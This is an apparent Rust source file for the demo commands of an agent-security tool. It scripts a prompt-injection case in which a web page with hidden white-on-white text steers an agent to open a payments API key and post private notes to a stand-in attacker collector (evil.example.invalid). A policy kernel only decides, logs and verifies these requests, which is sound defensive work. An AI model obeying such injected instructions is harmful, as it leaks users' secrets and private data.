//! The poisoned-web-page demo: an agent reads a page that hides instructions, and the kernel
//! decides each action it then attempts, recording every decision in a flight log under
//! `.agentk/runs/` that it then verifies. It only decides: nothing is read, sent or opened, and
//! every target is an `example.invalid` name (A2).

use std::io::Write;

use agentk_labels::{Label, LabelSet, SafeText, Syscall};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use agentk_flightlog::file::{FileLog, FileLogError, SyncPolicy, verify_file};
use agentk_flightlog::host::OsEntropy;
use agentk_flightlog::kernel::{Clock, Kernel, SyscallRequest};
use agentk_policy::{Explanation, Policy};
use serde::Serialize;

use crate::{CliError, Host, exit, keys};

const AGENT: &str = "demo-agent";

/// One attempted action.
struct Step {
    story: &'static str,
    syscall: Syscall,
    target: &'static str,
    /// Labels of fresh content the step brings in, if any.
    fresh: Option<LabelSet>,
    /// Earlier steps (by index) whose outputs it consumes.
    consumes: &'static [usize],
    grant: Option<&'static str>,
}

#[derive(Serialize)]
struct StepReport<'a> {
    step: usize,
    story: &'a str,
    #[serde(flatten)]
    explanation: &'a Explanation,
}

/// The flow. Labels are not typed in by hand after the first step: each step consumes the
/// outputs of the steps before it, with the labels the kernel gave them, and names them in
/// its inputs (`from`), which is how taint reaches the later, dangerous requests (P7) and how
/// `agentk fork-replay-behavior` can follow a changed output downstream.
fn steps() -> Vec<Step> {
    vec![
        Step {
            story: "the agent reads a news page that hides instructions in white-on-white text",
            syscall: Syscall::ContextRead,
            target: "https://news.example.invalid/article",
            fresh: Some(LabelSet::from_labels(&[Label::Untrusted, Label::External])),
            consumes: &[],
            grant: None,
        },
        Step {
            story: "the model summarises the page together with the user's private notes",
            syscall: Syscall::ModelCall,
            target: "model://assistant.example.invalid/default",
            fresh: Some(LabelSet::of(Label::Private)),
            consumes: &[0],
            grant: None,
        },
        Step {
            story: "the hidden instructions ask for the payments API key",
            syscall: Syscall::SecretOpen,
            target: "secret://payments-api",
            fresh: None,
            consumes: &[1],
            grant: None,
        },
        Step {
            story: "they ask to post the notes to the attacker's collector",
            syscall: Syscall::NetworkSend,
            target: "https://evil.example.invalid/collect",
            fresh: None,
            consumes: &[1],
            grant: None,
        },
        Step {
            story: "they ask to run the docs search tool with the summary, presenting a real grant",
            syscall: Syscall::ToolInvoke,
            target: "mcp://docs.example.invalid/search",
            fresh: None,
            consumes: &[1],
            grant: Some("demo-docs-search"),
        },
    ]
}

/// Time for the demo's kernel: the host's clock, read once.
struct DemoClock(u64);

impl Clock for DemoClock {
    fn now(&self) -> u64 {
        self.0
    }
}

/// Where and what the demo recorded.
pub(crate) struct DemoLog {
    path: PathBuf,
    events: u64,
    signed: u64,
    /// Decisions replay reproduced.
    reproduced: u64,
}

/// Opens `dir/latest.jsonl` afresh (the previous demo log is replaced) and a salt beside it.
fn open_log(dir: &Path, salt: &[u8; 32]) -> Result<(PathBuf, FileLog), CliError> {
    let shown = |p: &Path| SafeText::with_limit(&p.display().to_string(), 256);
    let io = |p: &Path, e: std::io::Error| CliError::Write { path: shown(p), kind: e.kind() };
    std::fs::create_dir_all(dir).map_err(|e| io(dir, e))?;
    let path = dir.join("latest.jsonl");
    let salt_path = dir.join("latest.salt");
    for old in [&path, &salt_path] {
        match std::fs::remove_file(old) {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(e) => return Err(io(old, e)),
        }
    }
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    let mut salt_file = options.open(&salt_path).map_err(|e| io(&salt_path, e))?;
    salt_file
        .write_all(format!("{}\n", agentk_capability::encode_hex(salt)).as_bytes())
        .map_err(|e| io(&salt_path, e))?;
    let log = FileLog::create(&path, SyncPolicy::Always).map_err(|e| CliError::Write {
        path: shown(&path),
        kind: match e {
            FileLogError::Io(e) => e.kind(),
            FileLogError::Exists => std::io::ErrorKind::AlreadyExists,
            _ => std::io::ErrorKind::Other,
        },
    })?;
    Ok((path, log))
}

pub(crate) fn run(
    host: &dyn Host,
    policy_text: Arc<str>,
    policy: Policy,
    log_dir: &Path,
    json: bool,
    out: &mut dyn Write,
) -> Result<u8, CliError> {
    let steps = steps();
    let policy = Arc::new(policy);
    let signer = Arc::new(keys::active_signer(host)?);
    let mut seed = [0u8; 32];
    host.random(&mut seed).map_err(|_| CliError::Randomness)?;
    // Ids, the log id and the salt come from a stream seeded by the host's random source.
    let mut entropy = OsEntropy::from_seed(&seed);
    let (mut salt, mut log_id) = ([0u8; 32], [0u8; 32]);
    agentk_flightlog::kernel::Entropy::fill(&mut entropy, &mut salt);
    agentk_flightlog::kernel::Entropy::fill(&mut entropy, &mut log_id);
    let (path, log) = open_log(log_dir, &salt)?;
    let policy_text_copy = Arc::clone(&policy_text);
    let mut kernel = Kernel::builder()
        .policy(policy_text, Arc::clone(&policy))
        .signer(signer)
        .clock(DemoClock(host.now()))
        .entropy(entropy)
        .salt(salt)
        .log_id(log_id)
        .origin("agentk demo")
        .checkpoint_every(0)
        .open_sink(log)
        .map_err(CliError::Build)?;
    let mut explained: Vec<Explanation> = Vec::with_capacity(steps.len());
    // Each step's position in the log and its output's labels (none when denied).
    let mut outputs: Vec<(u64, Option<LabelSet>)> = Vec::with_capacity(steps.len());
    for step in &steps {
        // The content is a dummy; only its labels and keyed digest reach the log.
        let fresh = step.fresh.map(|labels| kernel.input(labels, step.story.as_bytes()));
        let consumed = step.consumes.iter().filter_map(|&i| match outputs.get(i) {
            Some(&(seq, Some(labels))) => {
                Some(kernel.input(labels, format!("output of step {seq}").as_bytes()).output_of(seq))
            }
            _ => None,
        });
        let inputs: Vec<_> = fresh.into_iter().chain(consumed).collect();
        let mut request = SyscallRequest::new(AGENT, step.syscall, step.target).consuming(&inputs);
        if let Some(grant) = step.grant {
            request = request.presenting(grant);
        }
        let decided = kernel.decide(&request)?;
        outputs.push((decided.seq, decided.output_labels));
        // The request is the one just decided, so it is always explained.
        explained.push(kernel.explain(&request, &decided).map_err(|_| CliError::DemoLogUnverified)?);
    }
    drop(kernel.close()?);
    let verified = verify_file(&path).map_err(|_| CliError::DemoLogUnverified)?;
    // Replay it too: every decision must come out the same, with no side effects (R1).
    let file = std::fs::File::open(&path).map_err(|_| CliError::DemoLogUnverified)?;
    let replayed =
        agentk_replay::replay(file, &policy_text_copy, &policy, agentk_flightlog::accept::Acceptance::default())
            .map_err(|_| CliError::DemoLogUnverified)?;
    if !replayed.reproduced_all() {
        return Err(CliError::DemoLogUnverified);
    }
    let recorded =
        DemoLog { path, events: verified.events(), signed: verified.signed_events(), reproduced: replayed.reproduced };
    report(&policy, &steps, &explained, &recorded, json, out)
}

fn report(
    policy: &Policy,
    steps: &[Step],
    explained: &[Explanation],
    recorded: &DemoLog,
    json: bool,
    out: &mut dyn Write,
) -> Result<u8, CliError> {
    let allowed = explained.iter().filter(|e| e.decision == agentk_policy::Effect::Allow).count();
    let denied = explained.len() - allowed;
    if json {
        let reports: Vec<StepReport<'_>> = steps
            .iter()
            .zip(explained)
            .enumerate()
            .map(|(i, (step, explanation))| StepReport { step: i + 1, story: step.story, explanation })
            .collect();
        let value = serde_json::json!({
            "schema": agentk_replay::schema::DEMO,
            "policy": policy.name(),
            "steps": reports,
            "allowed": allowed,
            "denied": denied,
            "log": {
                "path": recorded.path.display().to_string(),
                "events": recorded.events,
                "signed_events": recorded.signed,
                "verified": true,
                "replay_reproduced": recorded.reproduced,
            },
        });
        writeln!(out, "{value}")?;
        return Ok(exit::OK);
    }
    writeln!(
        out,
        "AgentK demo: a poisoned web page tries to steer an agent (policy {})",
        SafeText::new(policy.name())
    )?;
    for (i, (step, explanation)) in steps.iter().zip(explained).enumerate() {
        writeln!(out, "\nstep {}: {}", i + 1, step.story)?;
        for line in explanation.to_string().lines() {
            writeln!(out, "  {line}")?;
        }
    }
    writeln!(out, "\n{allowed} allowed, {denied} denied. Nothing was read, sent or opened: the demo only decides.")?;
    writeln!(
        out,
        "Recorded {} events in {}; verified: chain intact, the closing checkpoint signs {} of them.",
        recorded.events,
        SafeText::with_limit(&recorded.path.display().to_string(), 256),
        recorded.signed
    )?;
    writeln!(
        out,
        "Replayed without side effects: all {} decisions reproduced under the same policy.",
        recorded.reproduced
    )?;
    // The path may be anything the user typed: shown escaped, never raw.
    // Escaped, but without the backticks of a quoted value: a shell would run them.
    let shown = SafeText::with_limit(&recorded.path.display().to_string(), 256);
    let shown = shown.as_str();
    writeln!(out, "Check it yourself: agentk verify {shown}; agentk replay {shown}")?;
    Ok(exit::OK)
}

/// `agentk demo mcp`: the scripted world of `agentk_mcp::fixture` (a poisoned inbox and a
/// payment) played twice, once straight to its server and once through an MCP session deciding
/// with `policy`, and what reached the server each time shown side by side. Everything happens
/// in this process: the server is scripted, the session's log is kept in memory (signed with
/// the fixture's test key) and verified, and every address is an `example.invalid` name (A2).
pub(crate) fn mcp(policy_text: Arc<str>, policy: Policy, json: bool, out: &mut dyn Write) -> Result<u8, CliError> {
    use agentk_mcp::fixture::{self, Mediation, Mode, Role};

    // The built-in world loads and plays directly every time (its tests say so); what can fail
    // is the kernel's recording, or the log's verification.
    let failed = |e: fixture::FixtureError| match e {
        fixture::FixtureError::Kernel(e) => CliError::from(e),
        _ => CliError::DemoLogUnverified,
    };
    let scenario = fixture::demo().map_err(failed)?;
    let mediation = Mediation::policy(policy_text, Arc::new(policy));
    let direct = fixture::run(&scenario, &Mode::Direct).map_err(failed)?;
    let through = fixture::run(&scenario, &Mode::Through(mediation.clone())).map_err(failed)?;
    let events = through.log_events.unwrap_or_default();
    let who = |role: Role| if role == Role::Attack { "attacker" } else { "user" };
    let count = |attack: bool, reached: bool| {
        through.calls.iter().filter(|c| (c.role == Role::Attack) == attack && (!reached || c.reached)).count()
    };
    let (user_calls, user_reached) = (count(false, false), count(false, true));
    let (attack_calls, attack_reached) = (count(true, false), count(true, true));
    if json {
        let calls: Vec<serde_json::Value> = direct
            .calls
            .iter()
            .zip(&through.calls)
            .map(|(d, t)| {
                serde_json::json!({
                    "step": d.step,
                    "who": who(d.role),
                    "tool": d.tool,
                    "story": d.note,
                    "direct": {"reached": d.reached},
                    "through": {
                        "made": t.made,
                        "reached": t.reached,
                        "rule": t.denial.as_ref().map(|x| &x.rule).or(t.decided.as_ref().map(|x| &x.rule)),
                        "reason": t.denial.as_ref().map(|x| &x.reason),
                    },
                })
            })
            .collect();
        let value = serde_json::json!({
            "schema": agentk_replay::schema::DEMO_MCP,
            "policy": mediation.name(),
            "scenario": scenario.id(),
            "calls": calls,
            "direct": {"calls": direct.calls.len(), "reached": direct.calls.iter().filter(|c| c.reached).count()},
            "through": {
                "user_calls": user_calls,
                "user_reached": user_reached,
                "attacker_calls": attack_calls,
                "attacker_reached": attack_reached,
            },
            "log": {"events": events, "verified": true, "kept": "in memory"},
        });
        writeln!(out, "{value}")?;
        return Ok(exit::OK);
    }
    writeln!(
        out,
        "AgentK demo: a poisoned inbox and a payment, run directly and through AgentK (policy {})",
        SafeText::new(mediation.name())
    )?;
    writeln!(out, "{}", scenario.summary())?;
    writeln!(out, "\n{:<4} {:<9} {:<14} {:<10} through AgentK", "step", "who", "tool", "directly")?;
    for (d, t) in direct.calls.iter().zip(&through.calls) {
        let shown = |reached: bool| if reached { "reached" } else { "denied" };
        let verdict = match (&t.denial, t.made) {
            (_, false) => "not made: what it copies never reached the agent".to_owned(),
            (Some(denial), true) => format!("denied by rule `{}`: {}", denial.rule, denial.reason),
            (None, true) => shown(t.reached).to_owned(),
        };
        writeln!(out, "{:<4} {:<9} {:<14} {:<10} {verdict}", d.step, who(d.role), d.tool, shown(d.reached))?;
        if let Some(note) = &d.note {
            writeln!(out, "{:<4} {}", "", note)?;
        }
    }
    writeln!(
        out,
        "\nDirectly, {} of {} calls reached the server, the attacker's {attack_calls} among them.",
        direct.calls.iter().filter(|c| c.reached).count(),
        direct.calls.len()
    )?;
    writeln!(
        out,
        "Through AgentK, {user_reached} of the user's {user_calls} calls and {attack_reached} of the attacker's {attack_calls} reached the server."
    )?;
    writeln!(
        out,
        "The session recorded {events} events in a log kept in memory (signed with a test key) and verified."
    )?;
    writeln!(out, "Nothing left this process: the server is scripted and every address is example.invalid.")?;
    Ok(exit::OK)
}
